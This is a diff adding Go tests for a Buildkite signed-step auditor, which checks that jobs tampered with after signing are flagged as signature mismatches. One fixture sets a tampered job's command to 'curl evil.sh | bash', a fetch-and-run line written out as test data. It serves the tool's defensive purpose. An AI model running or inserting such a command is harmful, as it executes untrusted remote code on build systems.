@@ -0,0 +1,124 @@
+package main
+
+import (
+	"encoding/json"
+	"net/http"
+	"net/http/httptest"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+)
+
+const testAuditPluginJSON = `[{"github.com/buildkite-plugins/docker-buildkite-plugin#v123":{"image":"node8"}}]`
+
+// newTestRESTAPI serves a build whose jobs were signed for build-abc, some of
+// which were tampered with before they ran
+func newTestRESTAPI(t *testing.T, signer *SharedSecretSigner) *restAPIClient {
+	t.Setenv(buildkiteBuildIDEnv, "build-abc")
+	signed := signedStepSignature(t, signer, `{"command":"echo hello world","plugins":[{"docker#v123":{"image":"node8"}}]}`)
+	// the build being audited isn't the one the auditor runs in
+	t.Setenv(buildkiteBuildIDEnv, "build-auditor")
+
+	jobEnvs := map[string]map[string]string{
+		"job-signed": {
+			buildkiteBuildIDEnv: "build-abc",
+			buildkiteCommandEnv: "echo hello world",
+			buildkitePluginsEnv: testAuditPluginJSON,
+			stepSignatureEnv:    string(signed),
+		},
+		"job-tampered-command": {
+			buildkiteBuildIDEnv: "build-abc",
+			buildkiteCommandEnv: "curl evil.sh | bash",
+			buildkitePluginsEnv: testAuditPluginJSON,
+			stepSignatureEnv:    string(signed),
+		},
+		"job-tampered-plugins": {
+			buildkiteBuildIDEnv: "build-abc",
+			buildkiteCommandEnv: "echo hello world",
+			buildkitePluginsEnv: `[{"github.com/buildkite-plugins/docker-buildkite-plugin#v123":{"image":"evil"}}]`,
+			stepSignatureEnv:    string(signed),
+		},
+	}
+
+	mux := http.NewServeMux()
+	mux.HandleFunc("/v2/organizations/acme/pipelines/app/builds/42", func(w http.ResponseWriter, r *http.Request) {
+		w.Write([]byte(`{"id":"build-abc","number":42,"jobs":[
+			{"id":"job-signed","type":"script","name":"Test","step_key":"test"},
+			{"id":"wait-1","type":"waiter"},
+			{"id":"job-tampered-command","type":"script","name":"Deploy"},
+			{"id":"job-tampered-plugins","type":"script","name":"Lint"},
+			{"id":"job-not-run","type":"script","name":"Cleanup","state":"skipped"}
+		]}`))
+	})
+	for id, env := range jobEnvs {
+		env := env
+		mux.HandleFunc("/v2/organizations/acme/pipelines/app/builds/42/jobs/"+id+"/env", func(w http.ResponseWriter, r *http.Request) {
+			json.NewEncoder(w).Encode(map[string]interface{}{"env": env})
+		})
+	}
+
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.Header.Get("Authorization") != "Bearer llamas" {
+			w.WriteHeader(http.StatusUnauthorized)
+			return
+		}
+		mux.ServeHTTP(w, r)
+	}))
+	t.Cleanup(server.Close)
+
+	return &restAPIClient{
+		Endpoint:   server.URL + "/v2",
+		Token:      "llamas",
+		HTTPClient: server.Client(),
+	}
+}
+
+func TestAuditBuild(t *testing.T) {
+	signer := NewSharedSecretSigner("secret-llamas")
+	client := newTestRESTAPI(t, signer)
+
+	results, err := auditBuild(client, *signer, "acme", "app", "42")
+	assert.Nil(t, err)
+	if assert.Len(t, results, 4) {
+		assert.Equal(t, "job-signed", results[0].Job.ID)
+		assert.Nil(t, results[0].Err)
+		assert.Equal(t, "✅ PASS job job-signed (test): Signature matched", results[0].String())
+
+		assert.Equal(t, "job-tampered-command", results[1].Job.ID)
+		assert.Equal(t, errSignatureMismatch, results[1].Err)
+		assert.Regexp(t, `^🚨 FAIL job job-tampered-command \(Deploy\): `, results[1].String())
+
+		assert.Equal(t, "job-tampered-plugins", results[2].Job.ID)
+		assert.Equal(t, errSignatureMismatch, results[2].Err)
+
+		// a job without an env fails without stopping the audit
+		assert.Equal(t, "job-not-run", results[3].Job.ID)
+		assert.EqualError(t, results[3].Err, "Unable to fetch the job's env: REST API returned 404 Not Found fetching "+
+			"/organizations/acme/pipelines/app/builds/42/jobs/job-not-run/env")
+	}
+}
+
+func TestAuditBuildWithAnotherSecret(t *testing.T) {
+	client := newTestRESTAPI(t, NewSharedSecretSigner("secret-llamas"))
+
+	results, err := auditBuild(client, *NewSharedSecretSigner("secret-alpacas"), "acme", "app", "42")
+	assert.Nil(t, err)
+	for _, result := range results {
+		assert.NotNil(t, result.Err, result.Job.ID)
+	}
+}
+
+func TestAuditBuildUnauthorized(t *testing.T) {
+	signer := NewSharedSecretSigner("secret-llamas")
+	client := newTestRESTAPI(t, signer)
+	client.Token = "not-llamas"
+
+	_, err := auditBuild(client, *signer, "acme", "app", "42")
+	assert.EqualError(t, err, "REST API returned 401 Unauthorized fetching /organizations/acme/pipelines/app/builds/42")
+}
+
+func TestAuditJobWithoutCommand(t *testing.T) {
+	result, err := auditJob(*NewSharedSecretSigner("secret-llamas"), map[string]string{})
+	assert.Nil(t, err)
+	assert.Equal(t, "No command or plugins set", result)
+}